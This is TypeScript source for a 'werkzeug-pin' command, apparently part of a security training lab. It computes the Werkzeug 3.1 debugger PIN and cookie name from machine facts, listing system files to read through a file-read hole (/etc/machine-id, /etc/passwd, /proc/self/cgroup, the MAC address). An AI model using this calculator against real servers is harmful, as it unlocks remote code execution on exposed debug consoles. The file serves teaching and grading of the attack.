/**
 * `werkzeug-pin`: the attacker's calculator for lesson 08. Given the facts read through the
 * file-read hole, it prints the PIN Werkzeug 3.1's debugger derives from them (and the name of the
 * cookie it sets once the PIN is entered), with grading/werkzeug-pin.ts.
 */
import { werkzeugPin, type PinFacts } from '../../grading/werkzeug-pin';
import type { Program } from './programs';

const USAGE = `usage: werkzeug-pin --path FLASK_APP_PY --mac MAC --machine-id ID [--cgroup LINE] [--user NAME]
                    [--modname flask.app] [--appname Flask]
  --user        the server's user (getpass.getuser()): /proc/self/status Uid:, named in /etc/passwd
  --path        the path of flask/app.py, as the debugger's traceback page shows it
  --mac         /sys/class/net/eth0/address (what uuid.getnode() answers)
  --machine-id  /etc/machine-id (or /proc/sys/kernel/random/boot_id when there is none)
  --cgroup      the first line of /proc/self/cgroup
  --modname, --appname  what DebuggedApplication wraps: flask.app and Flask for a Flask app
                (Flask for app, wsgi_app for app.wsgi_app)
`;

const OPTIONS = ['user', 'path', 'mac', 'machine-id', 'cgroup', 'modname', 'appname'] as const;
type Option = (typeof OPTIONS)[number];

/** `--name value` and `--name=value`; an unknown option or a missing value is an error. */
export function parsePinArgs(args: string[]): Partial<Record<Option, string>> | string {
  const values: Partial<Record<Option, string>> = {};
  for (let index = 0; index < args.length; index++) {
    const arg = args[index]!;
    const match = /^--([a-z-]+)(?:=(.*))?$/s.exec(arg);
    const name = match?.[1] as Option | undefined;
    if (!match || !name || !OPTIONS.includes(name)) return `werkzeug-pin: unknown argument ${JSON.stringify(arg)}`;
    const value = match[2] ?? args[++index];
    if (value === undefined) return `werkzeug-pin: --${name} needs a value`;
    values[name] = value;
  }
  return values;
}

export const werkzeugPinProgram: Program = {
  name: 'werkzeug-pin',
  help: "werkzeug-pin --user … --path … --mac … --machine-id … --cgroup …   the debugger PIN from the machine's facts",
  run: async (args) => {
    if (args.length === 0 || args.includes('--help') || args.includes('-h')) return USAGE;
    const values = parsePinArgs(args);
    if (typeof values === 'string') return `${values}\n${USAGE}`;
    const missing = (['path', 'mac', 'machine-id'] as const).filter((name) => !values[name]);
    if (missing.length > 0) return `werkzeug-pin: missing ${missing.map((name) => `--${name}`).join(', ')}\n${USAGE}`;
    const facts: PinFacts = {
      user: values.user ?? null,
      modname: values.modname ?? 'flask.app',
      appname: values.appname ?? 'Flask',
      moduleFile: values.path!,
      mac: values.mac!,
      machineId: values['machine-id']!,
      cgroup: values.cgroup ?? null,
    };
    let pin: Awaited<ReturnType<typeof werkzeugPin>>;
    try {
      pin = await werkzeugPin(facts);
    } catch (error) {
      return `werkzeug-pin: ${(error as Error).message}\n`;
    }
    return (
      `PIN: ${pin.pin}\ncookie: ${pin.cookieName}\n` +
      `(what Werkzeug 3.1's get_pin_and_cookie_name gives for these facts; one wrong fact gives another PIN, ` +
      `and 10 wrong PINs lock the console until the server restarts)\n`
    );
  },
};
